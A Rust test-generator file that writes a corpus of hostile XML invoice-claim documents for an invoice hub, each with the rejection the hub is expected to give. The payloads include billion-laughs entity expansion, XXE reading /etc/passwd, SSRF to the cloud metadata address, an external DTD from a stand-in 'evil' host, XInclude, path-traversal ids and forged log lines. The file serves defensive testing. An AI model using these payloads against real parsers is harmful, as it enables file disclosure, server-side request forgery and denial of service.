//! The hostile corpus: its manifest (`tests/hostile/cases.toml`) and the generator that wrote it.
//!
//! Every case is one file (what a region, or whoever holds a region's certificate, could put on
//! the submit exchange) plus how the hub must answer it: outcome and the rule the answer names.
//! The files were written once by [`write_corpus`] from valid generated bases (`invoice_hub::synth`,
//! fixed seed, month and "today") and are committed; the end-to-end test reads the committed
//! files. To write them again (after a change to the generator or the contract):
//!
//! ```text
//! IH_WRITE_HOSTILE_CORPUS=1 cargo test --test hub_hostile write_the_hostile_corpus -- --ignored
//! ```
//!
//! The generator checks each file with the library's validator before writing it, so a case
//! whose mutation no longer breaks the rule it names cannot be written.
#![allow(dead_code)]

use std::path::{Path, PathBuf};

use chrono::NaiveDate;
use serde::{Deserialize, Serialize};

use invoice_hub::claim::regions::region;
use invoice_hub::claim::ClaimSpecification;
use invoice_hub::synth::{GenOptions, Generated, Generator};
use invoice_hub::validate::{RuleContext, Validator};

pub(crate) const HALLAND: &str = "2321000115";
pub(crate) const STOCKHOLM: &str = "2321000016";
/// Västra Götaland: a region, but no store the hub delivers to.
pub(crate) const NO_STORE: &str = "2321000131";
/// A valid organisation number that is no region: the test's hub routes it (as if a private
/// care provider had a store), and Halland's policy rule H1 refuses to disclose to it.
pub(crate) const NOT_A_REGION: &str = "5560123456";

/// Who puts the message on the broker.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub(crate) enum Sender {
    /// Region Halland, with `user_id` = its own organisation number.
    Halland,
    /// Region Halland's connection, without `user_id`: the hub cannot know who sent it.
    NoUserId,
    /// Region Halland's connection claiming Stockholm's `user_id`: the broker refuses it.
    SpoofedUserId,
}

/// One case of the corpus.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub(crate) struct Case {
    pub name: String,
    /// File under `tests/hostile/`.
    pub file: String,
    /// The basis id the answer carries (the document's own id when it can be read, otherwise
    /// the message id the case is published with).
    pub id: String,
    pub sender: Sender,
    /// `OK`, `ERROR`, `WITHHELD`, `REJECTED` (answers on the status queue), `PARKED` (no answer:
    /// dead-lettered to `ih.parked`) or `REFUSED` (no answer: the broker refuses the publish).
    pub outcome: String,
    /// The rule the answer names: a finding's rule (ERROR), the policy rule (WITHHELD, REJECTED;
    /// for OK the rule the disclosure log names), or the broker's reply code (REFUSED).
    pub rule: String,
    pub why: String,
    /// Published after every answer of the earlier phases is in (1, 2 or 3).
    #[serde(default = "one")]
    pub phase: u8,
    /// The test appends an XML comment to reach this many bytes (so a 5 MiB file need not be
    /// committed).
    #[serde(default, skip_serializing_if = "is_zero")]
    pub pad_to_bytes: usize,
}

fn one() -> u8 {
    1
}

fn is_zero(n: &usize) -> bool {
    *n == 0
}

#[derive(Debug, Serialize, Deserialize)]
pub(crate) struct Manifest {
    pub case: Vec<Case>,
}

pub(crate) fn dir() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/hostile")
}

/// Reads `tests/hostile/cases.toml`.
pub(crate) fn load() -> Vec<Case> {
    let path = dir().join("cases.toml");
    let text = std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
    let m: Manifest = toml::from_str(&text).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
    m.case
}

/// The bytes a case publishes: the file, padded if the case says so.
pub(crate) fn payload(case: &Case) -> Vec<u8> {
    let path = dir().join(&case.file);
    let mut bytes = std::fs::read(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
    pad(&mut bytes, case.pad_to_bytes);
    bytes
}

fn pad(bytes: &mut Vec<u8>, to: usize) {
    if to > bytes.len() + 7 {
        let fill = to - bytes.len() - 7;
        bytes.extend_from_slice(b"<!--");
        bytes.extend(std::iter::repeat_n(b'x', fill));
        bytes.extend_from_slice(b"-->");
    }
}

/// The "today" the corpus was made for; the dates in it do not go stale (nothing is in the
/// future except on purpose, in 2099).
fn today() -> NaiveDate {
    NaiveDate::from_ymd_opt(2026, 11, 23).unwrap()
}

struct Writer {
    cases: Vec<Case>,
    validator: Validator,
    counter: u32,
}

impl Writer {
    fn next_id(&mut self) -> String {
        self.counter += 1;
        format!("ZVF{HALLAND}2610{:06}", 900_000 + self.counter)
    }

    /// Checks `bytes` against the library's validator (the hub's first steps) and records the
    /// case. For ERROR the validator must report `rule`; for everything else the document must
    /// be valid (the hub's routing, policy or the broker decide those).
    #[allow(clippy::too_many_arguments)]
    fn add(
        &mut self,
        name: &str,
        bytes: Vec<u8>,
        message_id: &str,
        sender: Sender,
        outcome: &str,
        rule: &str,
        why: &str,
        phase: u8,
        pad_to_bytes: usize,
    ) {
        let mut checked = bytes.clone();
        pad(&mut checked, pad_to_bytes);
        let report = self.validator.validate(&checked);
        let xsd_or_rules = report.findings.iter().any(|f| f.rule == rule);
        let routing = ["SENDER", "RECEIVER", "ID-REUSED", "BASIS-ID"].contains(&rule);
        if outcome == "ERROR" && !routing {
            assert!(
                xsd_or_rules,
                "{name}: the validator does not report {rule}:\n{}",
                report.text()
            );
        } else {
            assert!(
                report.is_valid(),
                "{name}: must be valid for the hub's later steps:\n{}",
                report.text()
            );
        }
        // The hub answers under the document's id when it can name a basis, else the message's.
        let id = report
            .id
            .clone()
            .filter(|id| invoice_hub::claim::basis_id_ok(id))
            .unwrap_or_else(|| message_id.to_string());
        let ext = if bytes.starts_with(b"<") {
            "xml"
        } else {
            "bin"
        };
        let file = format!("{name}.{ext}");
        std::fs::write(dir().join(&file), &bytes).unwrap();
        self.cases.push(Case {
            name: name.into(),
            file,
            id,
            sender,
            outcome: outcome.into(),
            rule: rule.into(),
            why: why.into(),
            phase,
            pad_to_bytes,
        });
    }

    fn err(&mut self, name: &str, bytes: Vec<u8>, id: &str, rule: &str, why: &str) {
        self.add(name, bytes, id, Sender::Halland, "ERROR", rule, why, 1, 0);
    }

    /// A case made from a basis: its own fresh id, serialised.
    fn claim(
        &mut self,
        name: &str,
        mut c: ClaimSpecification,
        outcome: &str,
        rule: &str,
        why: &str,
    ) {
        c.id = self.next_id();
        let id = c.id.clone();
        self.add(
            name,
            c.to_xml().into_bytes(),
            &id,
            Sender::Halland,
            outcome,
            rule,
            why,
            1,
            0,
        );
    }

    /// A case made by editing the text of a basis (given its own fresh id first).
    fn text(
        &mut self,
        name: &str,
        base: &ClaimSpecification,
        edit: impl FnOnce(String) -> String,
        rule: &str,
        why: &str,
    ) {
        let mut c = base.clone();
        c.id = self.next_id();
        let id = c.id.clone();
        let before = c.to_xml();
        let after = edit(before.clone());
        assert_ne!(before, after, "{name}: the edit changed nothing");
        self.err(name, after.into_bytes(), &id, rule, why);
    }
}

fn claim(g: &Generated) -> ClaimSpecification {
    ClaimSpecification::from_xml(&g.xml).expect("generated bases parse")
}

/// Applies the generator's own injection for `rule` (it keeps every other rule intact).
fn inject(c: &mut ClaimSpecification, rule: &str) {
    assert!(try_inject(c, rule), "{rule} cannot be injected here");
}

/// The same, or false (and nothing changed) when the basis has nothing to break `rule` on.
fn try_inject(c: &mut ClaimSpecification, rule: &str) -> bool {
    use rand::SeedableRng;
    let inj = invoice_hub::synth::inject::INJECTIONS
        .iter()
        .find(|i| i.rule == rule)
        .unwrap_or_else(|| panic!("no injection for {rule}"));
    let mut rng = rand_chacha::ChaCha8Rng::seed_from_u64(7);
    let ctx = invoice_hub::synth::inject::InjectContext { today: today() };
    (inj.apply)(c, &mut rng, &ctx)
}

fn replace_once(s: String, from: &str, to: &str) -> String {
    assert!(s.contains(from), "{from:?} not in the document");
    s.replacen(from, to, 1)
}

/// The text between `<clm:amount>` and `</clm:amount>` of the payable amount, replaced.
fn payable_amount_text(s: String, to: &str) -> String {
    let open = "<clm:payableAmount><clm:amount>";
    let start = s.find(open).expect("payableAmount") + open.len();
    let end = start + s[start..].find("</clm:amount>").unwrap();
    format!("{}{to}{}", &s[..start], &s[end..])
}

/// Writes every file and `cases.toml` into `tests/hostile/` (replacing the earlier ones; the
/// generator's own source stays).
pub(crate) fn write_corpus() {
    let mut opts = GenOptions::new(2608, today());
    opts.month = NaiveDate::from_ymd_opt(2026, 10, 1).unwrap();
    opts.lines = 1..=2;
    opts.regions = vec![region("13").unwrap(), region("01").unwrap()];
    let g = Generator::new(opts).unwrap();
    let docs: Vec<Generated> = (0..600).map(|i| g.generate(i)).collect();
    let from_halland = |d: &&Generated| d.entry.sender == HALLAND && d.entry.receiver == STOCKHOLM;
    let find = |what: &str, pred: &dyn Fn(&Generated) -> bool| -> ClaimSpecification {
        claim(
            docs.iter()
                .filter(from_halland)
                .find(|d| pred(d))
                .unwrap_or_else(|| panic!("no generated basis for {what}")),
        )
    };
    let sensitive = |d: &Generated| {
        let f = &d.entry.features;
        f.psychiatry || f.abortion || f.protected_identity || f.credit_note || f.asylum
    };
    let plain = find("a plain outpatient basis", &|d| {
        !sensitive(d) && d.entry.features.patient_specific_pricing && d.entry.lines == 1
    });
    let plain_docs: Vec<ClaimSpecification> = docs
        .iter()
        .filter(from_halland)
        .filter(|d| !sensitive(d))
        .map(claim)
        .collect();
    let psychiatry = find("a psychiatric basis", &|d| {
        let f = &d.entry.features;
        f.psychiatry && !f.abortion && !f.protected_identity && !f.credit_note && d.entry.lines == 1
    });
    let abortion = find("an abortion basis", &|d| {
        let f = &d.entry.features;
        f.abortion && !f.psychiatry && !f.protected_identity && !f.credit_note
    });
    let credit = find("a credit note", &|d| {
        let f = &d.entry.features;
        f.credit_note && !f.psychiatry && !f.abortion && !f.protected_identity
    });

    std::fs::create_dir_all(dir()).unwrap();
    for e in std::fs::read_dir(dir()).unwrap().flatten() {
        let p = e.path();
        if matches!(
            p.extension().and_then(|x| x.to_str()),
            Some("xml") | Some("bin")
        ) {
            std::fs::remove_file(p).unwrap();
        }
    }
    let mut w = Writer {
        cases: Vec::new(),
        validator: Validator::new(RuleContext::new(today())).unwrap(),
        counter: 0,
    };

    // ---- the parser's wall: refused before any XML parser sees the bytes ------------------
    let base = {
        let mut c = plain.clone();
        c.id = w.next_id();
        c
    };
    let base_xml = base.to_xml();
    let (decl, body) = base_xml
        .split_once("?>")
        .map(|(d, b)| (format!("{d}?>"), b.to_string()))
        .unwrap();
    let mid = w.next_id();
    let mut lol =
        String::from("<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n <!ENTITY lol \"lol\">\n");
    for i in 1..10 {
        let prev = if i == 1 {
            "lol".to_string()
        } else {
            format!("lol{}", i - 1)
        };
        lol.push_str(&format!(
            " <!ENTITY lol{i} \"{}\">\n",
            format!("&{prev};").repeat(10)
        ));
    }
    lol.push_str("]>\n<lolz>&lol9;</lolz>\n");
    w.err(
        "billion-laughs",
        lol.into_bytes(),
        &mid,
        "SAFETY-DOCTYPE",
        "nested entities expanding to 10^9 'lol's: no DTD is ever parsed",
    );
    let mid = w.next_id();
    let quad = format!(
        "<?xml version=\"1.0\"?>\n<!DOCTYPE q [<!ENTITY a \"{}\">]>\n<q>{}</q>\n",
        "a".repeat(5000),
        "&a;".repeat(2000)
    );
    w.err(
        "quadratic-blowup",
        quad.into_bytes(),
        &mid,
        "SAFETY-DOCTYPE",
        "one 5 kB entity referenced 2000 times (10 MB after expansion) without nesting",
    );
    let xxe = |decl_line: &str, use_at: &str| {
        let body = body.replacen(
            "<rsp:ProcessClaimSpecification",
            &format!("{decl_line}\n<rsp:ProcessClaimSpecification"),
            1,
        );
        format!(
            "{decl}{}",
            body.replacen(
                "</clm:careUnitName>",
                &format!("{use_at}</clm:careUnitName>"),
                1
            )
        )
    };
    for (name, doctype, use_at, why) in [
        (
            "xxe-file",
            "<!DOCTYPE rsp:ProcessClaimSpecification [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>",
            "&xxe;",
            "an external entity reading a local file into the basis (and so into the receiver's store)",
        ),
        (
            "xxe-http",
            "<!DOCTYPE rsp:ProcessClaimSpecification [<!ENTITY xxe SYSTEM \"http://169.254.169.254/latest/meta-data/\">]>",
            "&xxe;",
            "an external entity making the hub fetch a URL (server-side request forgery)",
        ),
        (
            "xxe-parameter-entity",
            "<!DOCTYPE rsp:ProcessClaimSpecification [<!ENTITY % ext SYSTEM \"http://example.invalid/evil.dtd\"> %ext;]>",
            "",
            "a parameter entity pulling in an external DTD (out-of-band exfiltration)",
        ),
        (
            "external-dtd",
            "<!DOCTYPE rsp:ProcessClaimSpecification SYSTEM \"http://example.invalid/claim.dtd\">",
            "",
            "a DOCTYPE naming an external DTD only, no internal subset",
        ),
        (
            "doctype-lowercase",
            "<!doctype rsp:ProcessClaimSpecification [<!entity x \"y\">]>",
            "",
            "the declaration in lower case, to slip past a case-sensitive filter",
        ),
    ] {
        let mid = w.next_id();
        w.err(
            name,
            xxe(doctype, use_at).into_bytes(),
            &mid,
            "SAFETY-DOCTYPE",
            why,
        );
    }
    let mid = w.next_id();
    w.err(
        "deep-nesting",
        format!("{}{}", "<a>".repeat(2000), "</a>".repeat(2000)).into_bytes(),
        &mid,
        "SAFETY-DEPTH",
        "2000 nested elements: would drive recursive code into a stack overflow",
    );
    let mid = w.next_id();
    w.err(
        "deep-nesting-in-basis",
        format!(
            "{decl}{}",
            body.replacen(
                "</clm:careUnitName>",
                &format!(
                    "</clm:careUnitName>{}{}",
                    "<clm:x>".repeat(500),
                    "</clm:x>".repeat(500)
                ),
                1
            )
        )
        .into_bytes(),
        &mid,
        "SAFETY-DEPTH",
        "500 levels hidden inside an otherwise valid basis",
    );
    let mid = w.next_id();
    w.add(
        "oversize",
        base_xml.clone().into_bytes(),
        &mid,
        Sender::Halland,
        "ERROR",
        "SAFETY-SIZE",
        "a valid basis padded past the contract's 5 MiB (the test pads it; the file stays small)",
        1,
        5 * 1024 * 1024 + 4096,
    );
    let mid = w.next_id();
    let mut bad_utf8 = base_xml.clone().into_bytes();
    let at = bad_utf8
        .windows(2)
        .position(|x| x == "ä".as_bytes())
        .expect("an ä in the basis");
    bad_utf8[at + 1] = 0x28;
    w.err(
        "invalid-utf8",
        bad_utf8,
        &mid,
        "SAFETY-UTF8",
        "a broken two-byte sequence (C3 28) in a name",
    );
    let mid = w.next_id();
    let utf16: Vec<u8> = format!("\u{FEFF}{base_xml}")
        .encode_utf16()
        .flat_map(|u| u.to_le_bytes())
        .collect();
    w.err(
        "utf16",
        utf16,
        &mid,
        "SAFETY-UTF8",
        "the whole basis in UTF-16 with a byte order mark",
    );
    let mid = w.next_id();
    w.err(
        "latin1-declared",
        replace_once(
            base_xml.clone(),
            "encoding=\"UTF-8\"",
            "encoding=\"ISO-8859-1\"",
        )
        .into_bytes(),
        &mid,
        "SAFETY-ENCODING",
        "declares ISO-8859-1: two parsers could decode the same bytes differently",
    );
    let mid = w.next_id();
    w.err(
        "empty",
        Vec::new(),
        &mid,
        "SAFETY-EMPTY",
        "a message with no body at all",
    );
    let mid = w.next_id();
    w.err(
        "whitespace-only",
        b" \n\t\r\n ".to_vec(),
        &mid,
        "SAFETY-EMPTY",
        "only white space",
    );
    let mid = w.next_id();
    w.err(
        "binary",
        b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03\xab\xff\xfe\x00\x89PNG\r\n\x1a\n".to_vec(),
        &mid,
        "SAFETY-UTF8",
        "gzip and PNG magic bytes: not a document at all",
    );

    // ---- well-formedness and the schema -------------------------------------------------
    let mid = w.next_id();
    w.err(
        "not-xml",
        b"{\"claimSpecification\": {\"id\": \"ZVF1\"}}".to_vec(),
        &mid,
        "XML",
        "JSON instead of XML",
    );
    let mid = w.next_id();
    w.err(
        "truncated",
        base_xml.as_bytes()[..base_xml.len() / 2].to_vec(),
        &mid,
        "XML",
        "the basis cut off half-way (a lost tail)",
    );
    let mid = w.next_id();
    w.err(
        "mismatched-tag",
        replace_once(
            base_xml.clone(),
            "</clm:careUnitName>",
            "</clm:careUnitNam>",
        )
        .into_bytes(),
        &mid,
        "XML",
        "an end tag that does not match its start tag",
    );
    let mid = w.next_id();
    w.err(
        "two-documents",
        format!("{base_xml}{body}").into_bytes(),
        &mid,
        "XML",
        "a second root element after the first (two bases in one message)",
    );
    let mid = w.next_id();
    w.err(
        "nul-character",
        replace_once(
            base_xml.clone(),
            "</clm:careUnitName>",
            "\u{0}</clm:careUnitName>",
        )
        .into_bytes(),
        &mid,
        "XML",
        "U+0000 is valid UTF-8 but never allowed in XML",
    );
    w.text(
        "wrong-namespace",
        &plain,
        |s| {
            s.replace(
                "xmlns:clm=\"urn:riv:financial:billing:claim:1\"",
                "xmlns:clm=\"urn:riv:financial:billing:claim:2\"",
            )
        },
        "XSD",
        "the core namespace of a contract version that does not exist",
    );
    w.text(
        "no-namespace",
        &plain,
        |s| {
            s.replace(
                " xmlns:rsp=\"urn:riv:financial:billing:claim:ProcessClaimSpecificationResponder:1\"",
                "",
            )
            .replace(" xmlns:clm=\"urn:riv:financial:billing:claim:1\"", "")
            .replace("rsp:", "")
            .replace("clm:", "")
        },
        "XSD",
        "every element without a namespace",
    );
    w.text(
        "wrong-root",
        &plain,
        |s| {
            s.replace(
                "rsp:ProcessClaimSpecification",
                "rsp:ProcessClaimSpecificationResponse",
            )
        },
        "XSD",
        "the response's root element instead of the request's",
    );
    w.text(
        "wrong-element-order",
        &plain,
        |s| {
            let issue = s
                .split("<clm:issueDate>")
                .nth(1)
                .unwrap()
                .split("</clm:issueDate>")
                .next()
                .unwrap()
                .to_string();
            let s = s.replacen(&format!("<clm:issueDate>{issue}</clm:issueDate>"), "", 1);
            s.replacen(
                "<clm:id>",
                &format!("<clm:issueDate>{issue}</clm:issueDate><clm:id>"),
                1,
            )
        },
        "XSD",
        "issueDate before id: the contract fixes the order",
    );
    w.text(
        "unknown-element",
        &plain,
        |s| {
            replace_once(
                s,
                "</clm:invoiceId>",
                "</clm:invoiceId><clm:patientName>Anna Andersson</clm:patientName>",
            )
        },
        "XSD",
        "an element the contract removed in 2017 (patient name) smuggled back in",
    );
    w.text(
        "missing-payable-amount",
        &plain,
        |s| {
            let start = s.find("<clm:payableAmount>").unwrap();
            let end = s.find("</clm:payableAmount>").unwrap() + "</clm:payableAmount>".len();
            format!("{}{}", &s[..start], &s[end..])
        },
        "XSD",
        "a required element left out",
    );
    w.text(
        "empty-amount",
        &plain,
        |s| payable_amount_text(s, ""),
        "XSD",
        "an empty amount (<amount></amount>)",
    );
    w.text(
        "amount-with-exponent",
        &plain,
        |s| payable_amount_text(s, "1E9"),
        "XSD",
        "an amount in scientific notation (a float parser would take it)",
    );
    w.text(
        "xinclude",
        &plain,
        |s| {
            replace_once(
                s,
                "</clm:invoiceId>",
                "</clm:invoiceId><xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" \
                 href=\"file:///etc/passwd\" parse=\"text\"/>",
            )
        },
        "XSD",
        "an XInclude of a local file: never processed, refused by the schema",
    );
    w.text(
        "many-errors",
        &plain,
        |s| {
            replace_once(
                s,
                "</clm:invoiceId>",
                &format!("</clm:invoiceId>{}", "<clm:bogus/>".repeat(3000)),
            )
        },
        "XSD",
        "3000 unexpected elements: the report stays bounded",
    );

    // ---- business rules: amounts tampered with and other contract breaches -------------------
    for (rule, why) in [
        (
            "ÖR5",
            "payableAmount changed: no longer the sum of the lines' net amounts",
        ),
        ("ÖR26", "a patient-specific total that is not count × price"),
        ("ÖR27", "a gross amount that does not add up from its parts"),
        (
            "ÖR28",
            "a net amount that does not follow from gross and a patient care charge",
        ),
    ] {
        let c = plain_docs
            .iter()
            .find_map(|d| {
                let mut c = d.clone();
                try_inject(&mut c, rule).then_some(c)
            })
            .unwrap_or_else(|| panic!("no generated basis {rule} can be injected into"));
        w.claim(
            &format!("amount-{}", rule.trim_start_matches('Ö').to_lowercase()),
            c,
            "ERROR",
            rule,
            why,
        );
    }
    let mut c = plain.clone();
    c.payable_amount.amount = "99999999999999999999999999999999999999.99".into();
    w.claim(
        "amount-overflow",
        c,
        "ERROR",
        "XSD",
        "an amount with 38 integer digits, more than a 96-bit decimal holds: a finding, not a panic",
    );
    for (name, count, why) in [
        (
            "amount-count-times-price-overflows",
            "9223372036854775807",
            "count i64::MAX × a 22-digit price: the product overflows, which once made ÖR26 skip \
             the check and the hub deliver the basis",
        ),
        (
            "amount-count-beyond-i64",
            "99999999999999999999999",
            "a 23-digit count (a valid xs:integer, no i64): once skipped ÖR26 the same way",
        ),
    ] {
        let mut c = plain.clone();
        let psc = c
            .health_care_services_specification_line
            .iter_mut()
            .flat_map(|l| l.healthcare_performed.iter_mut())
            .find_map(|p| p.categorization.as_mut())
            .and_then(|cat| cat.patient_specific_care.first_mut())
            .expect("a patient-specific price item");
        psc.number_of_patient_specific_care = Some(count.into());
        psc.patient_specific_care_price
            .as_mut()
            .expect("a price")
            .amount = "9999999999999999999999.99".into();
        w.claim(name, c, "ERROR", "ÖR26", why);
    }
    let mut c = plain.clone();
    inject(&mut c, "ÖR1");
    w.claim(
        "empty-element",
        c,
        "ERROR",
        "ÖR1",
        "an empty care unit name",
    );
    let mut c = credit.clone();
    c.reference_to_process_claim_specification_id = None;
    w.claim(
        "credit-note-without-reference",
        c,
        "ERROR",
        "ÖR52",
        "a credit note (381) that does not say which basis it credits",
    );
    let mut c = plain.clone();
    c.issue_date = "20991231".into();
    if c.invoice_date_of_issue.is_some() {
        c.invoice_date_of_issue = Some("20991231".into());
    }
    w.claim("issued-in-the-future", c, "ERROR", "ÖR2", "issued in 2099");
    let mut c = plain.clone();
    inject(&mut c, "ID-PERSONNUMMER");
    w.claim(
        "personnummer-check-digit",
        c,
        "ERROR",
        "ID-PERSONNUMMER",
        "a patient's personnummer with a wrong check digit",
    );
    let mut c = plain.clone();
    c.id = w.next_id().replacen("ZVF", "ZVF../../", 1);
    let mid = w.next_id();
    w.add(
        "id-path-traversal",
        c.to_xml().into_bytes(),
        &mid,
        Sender::Halland,
        "ERROR",
        "ÖR37",
        "a basis id with ../ (it would become a store path)",
        1,
        0,
    );

    for (name, id, why) in [
        (
            "id-path-in-23-characters",
            "ZVF/../../../../../../x",
            "a 23-character id starting with ZVF (so ÖR37 holds) that is a path: must be refused, \
             not delivered to a store URL",
        ),
        (
            "id-forged-log-line",
            "ZVF\nFORGED outcome=OK\nX",
            "a 23-character id with line breaks: a forged line in the hub's log if it were \
             written there",
        ),
    ] {
        let mut c = plain.clone();
        c.id = id.into();
        let mid = w.next_id();
        w.add(
            name,
            c.to_xml().into_bytes(),
            &mid,
            Sender::Halland,
            "ERROR",
            "BASIS-ID",
            why,
            1,
            0,
        );
    }

    // ---- routing: who sends, who receives, which id -----------------------------------------
    let mut c = plain.clone();
    c.supplier_party.identification[0].extension = STOCKHOLM.into();
    w.claim(
        "supplier-not-sender",
        c,
        "ERROR",
        "SENDER",
        "Halland sends a basis whose supplier is Stockholm",
    );
    let mut c = plain.clone();
    c.customer_party.identification[0].extension = NO_STORE.into();
    w.claim(
        "unknown-receiver",
        c,
        "ERROR",
        "RECEIVER",
        "the receiver (Västra Götaland) has no store on this exchange",
    );
    let original = {
        let mut c = plain.clone();
        c.id = w.next_id();
        c
    };
    let id = original.id.clone();
    w.add(
        "id-first-use",
        original.to_xml().into_bytes(),
        &id,
        Sender::Halland,
        "OK",
        "H9-default",
        "a valid basis, delivered: the id is now taken",
        1,
        0,
    );
    let mut other = original.clone();
    other.invoice_id = Some("F-OTHER-CONTENT".into());
    w.add(
        "id-reused-other-content",
        other.to_xml().into_bytes(),
        &id,
        Sender::Halland,
        "ERROR",
        "ID-REUSED",
        "the same basis id again with other content, after the first was delivered",
        2,
        0,
    );
    w.add(
        "id-reused-same-content",
        original.to_xml().into_bytes(),
        &id,
        Sender::Halland,
        "OK",
        "H9-default",
        "the identical basis again (a re-publish): answered from the log, stored once",
        3,
        0,
    );

    // ---- the sending region's policy ------------------------------------------------------
    let mut c = plain.clone();
    c.health_care_services_specification_line[0]
        .patient_information
        .patient_identity
        .extension = "191212121212".into();
    w.claim(
        "protected-identity",
        c,
        "WITHHELD",
        "PROTECTED-IDENTITY",
        "a patient on the region's protected-identities list: never invoiced through the exchange",
    );
    let mut c = psychiatry.clone();
    c.health_care_services_specification_line[0]
        .patient_information
        .patient_identity
        .extension = crate::common::exchange::personnummer("20150115", 238);
    w.claim(
        "psychiatry-minor",
        c,
        "WITHHELD",
        "H3-psychiatry-minors",
        "psychiatric care of a child: the board decision requires manual review",
    );
    w.claim(
        "abortion",
        abortion.clone(),
        "WITHHELD",
        "H2-abortion",
        "a basis revealing an abortion (Riksavtal 4.4)",
    );
    let mut c = plain.clone();
    c.customer_party.identification[0].extension = NOT_A_REGION.into();
    w.claim(
        "receiver-not-a-region",
        c,
        "REJECTED",
        "H1-receiver",
        "a receiver the hub can route to but that is no region: Halland's policy refuses outright",
    );
    let mut c = psychiatry.clone();
    c.health_care_services_specification_line[0]
        .patient_information
        .patient_identity
        .extension = crate::common::exchange::personnummer("19700115", 238);
    w.claim(
        "psychiatry-adult",
        c,
        "OK",
        "H4-psychiatry",
        "adult psychiatric care: disclosed with care unit and classification removed",
    );
    w.claim(
        "credit-note",
        credit.clone(),
        "OK",
        "H9-default",
        "a credit note with its reference: delivered",
    );

    // ---- the broker's envelope ------------------------------------------------------------
    let mut c = plain.clone();
    c.id = w.next_id();
    let id = c.id.clone();
    w.add(
        "no-user-id",
        c.to_xml().into_bytes(),
        &id,
        Sender::NoUserId,
        "PARKED",
        "no user_id",
        "published without user_id: nobody to answer, so it is parked for an operator",
        1,
        0,
    );
    let mut c = plain.clone();
    c.id = w.next_id();
    let id = c.id.clone();
    w.add(
        "spoofed-user-id",
        c.to_xml().into_bytes(),
        &id,
        Sender::SpoofedUserId,
        "REFUSED",
        "PRECONDITION_FAILED",
        "Halland's connection claims Stockholm's user_id: the broker refuses, the hub never sees it",
        1,
        0,
    );

    let header =
        "# The hostile corpus: tests/hub_hostile.rs publishes each file, mixed into valid \
                  traffic, and\n# checks the hub's answer. Written by tests/hostile/corpus.rs \
                  (see there to regenerate).\n# outcome: OK / ERROR / WITHHELD / REJECTED (a \
                  status answer), PARKED (dead-lettered,\n# no answer), REFUSED (the broker \
                  refuses the publish, no answer).\n\n";
    let text = toml::to_string(&Manifest { case: w.cases }).unwrap();
    std::fs::write(dir().join("cases.toml"), format!("{header}{text}")).unwrap();
}
